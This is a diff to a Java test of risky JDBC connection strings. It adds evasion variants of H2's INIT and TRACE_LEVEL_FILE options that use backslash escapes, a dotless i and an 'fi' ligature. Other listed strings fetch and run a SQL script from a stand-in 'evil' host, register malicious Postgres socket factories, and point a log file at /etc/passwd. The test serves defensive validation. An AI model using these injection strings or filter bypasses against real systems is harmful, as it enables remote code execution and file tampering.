@@ -17,6 +17,11 @@ class RiskyOptionsTest {
         "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
         "jdbc:h2:mem:x; init = CREATE ALIAS",
         "jdbc:h2:mem:x;TRACE_LEVEL_FILE=3",
+        // What H2 reads as INIT and TRACE_LEVEL_FILE, too.
+        "jdbc:h2:mem:x;I\\NIT=CREATE ALIAS",
+        "jdbc:h2:mem:x;\\INIT=CREATE ALIAS",
+        "jdbc:h2:mem:x;\u0131NIT=CREATE ALIAS",
+        "jdbc:h2:mem:x;TRACE_LEVEL_\ufb01LE=3",
         "jdbc:postgresql://h/d?a=b&socketFactory=org.evil.Factory",
         "jdbc:postgresql://h/d?SSLFACTORY=org.evil.Factory",
         "jdbc:postgresql://h/d?loggerFile=/etc/passwd",
